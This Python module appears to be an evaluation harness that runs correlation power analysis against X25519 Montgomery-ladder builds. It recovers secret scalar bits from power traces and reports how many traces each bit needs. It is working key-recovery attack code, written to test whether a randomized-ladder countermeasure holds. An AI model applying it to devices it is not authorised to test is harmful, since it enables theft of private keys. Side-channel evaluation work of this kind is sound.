# SPDX-License-Identifier: MIT
"""Correlation power analysis on the X25519 Montgomery ladder (docs/SIDE_CHANNELS.md).

The attacker knows the input u of every trace and a prefix of the secret scalar (bits
254 .. t+1; bit 254 is always 1 after clamping, so the first unknown bit is 253). From
the prefix, the ladder's state before step t is known in the plain ladder (it starts at
R0 = (1 : 0), R1 = (u : 1)): the projective points R0 = [m]P, R1 = [m+1]P with
m = k >> (t+1). Step t doubles R_b (b = k_t) and adds R0 + R1. The addition is the
same under both hypotheses and so are its inputs' sums and differences (A, B, C, D are
all computed either way), so they cannot tell the hypotheses apart; the doubling's values
can: AA = (X+Z)^2, BB = (X-Z)^2, E = AA - BB, x2 = AA BB, t1 = BB + 121666 E and
z2 = E t1 of R_b exist only under hypothesis b. For each hypothesis the predicted
leakage is the Hamming weight of every word of these values (one column per word and
value), correlated with every sample; the hypothesis with the larger max |rho| wins,
and the prefix is extended with the winner (bits are recovered in sequence).

Values are predicted canonically (mod p) and cut into words of the build's
representation: `hw16` (16 words of 16 bits, the MSP430 builds' radix 2^16), `hw32`
(8 words of 32 bits, the Cortex-M4 assembly and portable r32), `r25` (10 limbs of
26/25 bits, the portable radix 2^25.5). The builds keep values only partly reduced
(mod 2^256 - 38 or with limb carries pending): the canonical value differs from the
stored one by a multiple of p in a few words, which only weakens the correlation.

The randomized ladder starts from R0 = (rho : 0), R1 = (lambda u : lambda) with secret
random lambda, rho per trace: the projective values of every step are unknown, which is
what the countermeasure is for; the same prediction is run against it and should fail."""
from statistics import NormalDist

import numpy as np

from .stats import Correlation

P = 2 ** 255 - 19
A24 = 121666
MODELS = {"hw16": (16, 16), "hw32": (32, 8)}
_R25 = [(26 if i % 2 == 0 else 25) for i in range(10)]   # radix 2^25.5 limb widths
_POP = np.array([bin(i).count("1") for i in range(1 << 16)], dtype=np.uint8)


def clamp(secret):
    k = bytearray(secret)
    k[0] &= 248
    k[31] = (k[31] & 127) | 64
    return int.from_bytes(k, "little")


def u_of(pub):
    """The ladder's x1: u with bit 255 masked, reduced mod p (RFC 7748 decoding)."""
    return (int.from_bytes(pub[:32], "little") & ((1 << 255) - 1)) % P


def words(v, model):
    """The words of v in the representation `model` (list of ints)."""
    if model == "r25":
        out, s = [], 0
        for w in _R25:
            out.append((v >> s) & ((1 << w) - 1))
            s += w
        return out
    bits, n = MODELS[model]
    mask = (1 << bits) - 1
    return [(v >> (bits * i)) & mask for i in range(n)]


def hw_words(values, model):
    """Hamming weights of the words of every value: one row per trace."""
    return np.array([[bin(w).count("1") for v in row for w in words(v, model)]
                     for row in values], dtype=np.float32)


def double(x, z):
    """The ladder's doubling of (x : z): the intermediates in the order the step writes
    them (AA, BB, E, x2 = AA BB, t1 = BB + 121666 E, z2 = E t1)."""
    a, b = (x + z) % P, (x - z) % P
    aa, bb = a * a % P, b * b % P
    e = (aa - bb) % P
    t1 = (bb + A24 * e) % P
    return aa, bb, e, aa * bb % P, t1, e * t1 % P


def add(x2, z2, x3, z3, x1, z1=1):
    """Differential addition with difference (x1 : z1): (z1 (DA + CB)^2, x1 (DA - CB)^2)."""
    a, b = (x2 + z2) % P, (x2 - z2) % P
    c, d = (x3 + z3) % P, (x3 - z3) % P
    da, cb = d * a % P, c * b % P
    return z1 * (da + cb) ** 2 % P, x1 * (da - cb) ** 2 % P


def step(r0, r1, x1, bit, z1=1):
    """One ladder step on the true points: (R0, R1) -> (2 R0, R0 + R1) or (R0 + R1, 2 R1)."""
    s = add(*r0, *r1, x1, z1)
    if bit:
        d = double(*r1)
        return s, (d[3], d[5])
    d = double(*r0)
    return (d[3], d[5]), s


class LadderModel:
    """The plain ladder's state for many traces under a known scalar prefix."""

    def __init__(self, pubs):
        self.x1 = [u_of(p) for p in pubs]
        self.r = [((1, 0), (x, 1)) for x in self.x1]
        self.t = 254            # next bit to process

    def hypotheses(self, model):
        """(h0, h1): predicted leakage columns of step self.t under bit = 0 and bit = 1."""
        return tuple(hw_words([double(*r[b]) for r in self.r], model) for b in (0, 1))

    def advance(self, bit):
        self.r = [step(r0, r1, x1, bit) for (r0, r1), x1 in zip(self.r, self.x1)]
        self.t -= 1


def significant(rho, n, tests, alpha=1e-3):
    """Is max |rho| over `tests` correlations of n traces beyond chance? Fisher's z
    (atanh(rho) sqrt(n - 3) is standard normal without correlation), Bonferroni over the
    tests: a guess that only beats the other by noise is not a recovery."""
    if n <= 3:
        return False
    z = NormalDist().inv_cdf(1 - alpha / (2 * tests))
    return float(np.arctanh(min(abs(rho), 0.999999))) * (n - 3) ** 0.5 > z


def schedule(n_max):
    """5, 10, 25, 50, 100, 200, ... (doubling), and n_max."""
    out, n = [n for n in (5, 10) if n < n_max], 25
    while n < n_max:
        out.append(n)
        n *= 2
    return out + [n_max]


def attack(traces, pubs, secret, bits=4, model="hw16", points=None, batch=1000,
           chunk=8192):
    """CPA on the first `bits` unknown scalar bits (253, 252, ...) of X25519.

    traces: (N, S) array in the order of pubs (32-byte u values); secret: the true
    32-byte scalar (to score the result only; the attack never reads it). points: the
    trace counts to evaluate (default schedule(N)). A guess is made at N only when the
    larger max |rho| is significant (`significant`, alpha = 1e-3 over all columns and
    samples); the attack stops at the first bit not recovered. Returns a dict:
    bits_attacked, bits_recovered (correct bits in sequence), traces_to_recover (per
    recovered bit: the smallest N in points from which the right guess wins, significant,
    at every later point), and per-bit details (max |rho| of both guesses per N)."""
    traces = np.asarray(traces)
    n_total = len(traces)
    points = points or schedule(n_total)
    k = clamp(secret)
    model_state = LadderModel(pubs)
    model_state.advance(1)          # bit 254 is 1 in every clamped scalar
    result = {"bits_attacked": bits, "bits_recovered": 0, "traces_to_recover": [],
              "model": model, "details": []}
    for _ in range(bits):
        t = model_state.t
        truth = (k >> t) & 1
        hyp = model_state.hypotheses(model)
        best = {n: [0.0, 0.0] for n in points}   # N -> max|rho| of guess 0, of guess 1
        # samples in chunks: the accumulators hold columns x chunk values, not x S
        for c0 in range(0, traces.shape[1], chunk):
            xc = traces[:, c0:c0 + chunk]
            for g, h in enumerate(hyp):
                acc = Correlation(h.shape[1], xc.shape[1])
                lo = 0
                for n in points:
                    for j in range(lo, n, batch):
                        e = min(n, j + batch)
                        acc.add(h[j:e], xc[j:e])
                    lo = n
                    best[n][g] = max(best[n][g], float(np.max(np.abs(acc.rho()))))
        tests = hyp[0].shape[1] * traces.shape[1]
        n_last = points[-1]
        guess = int(best[n_last][1] > best[n_last][0])
        sig = significant(best[n_last][guess], n_last, tests)
        needed = None
        for n in reversed(points):      # smallest N from which the right guess always wins
            r = best[n]
            if r[truth] > r[1 - truth] and significant(r[truth], n, tests):
                needed = n
            else:
                break
        ok = sig and guess == truth
        result["details"].append({"bit": t, "truth": truth, "guess": guess if sig else None,
                                  "rho": {str(n): [round(a, 4), round(b, 4)]
                                          for n, (a, b) in best.items()},
                                  "traces_needed": needed if ok else None})
        if not ok:
            break
        result["bits_recovered"] += 1
        result["traces_to_recover"].append(needed)
        model_state.advance(guess)
    return result
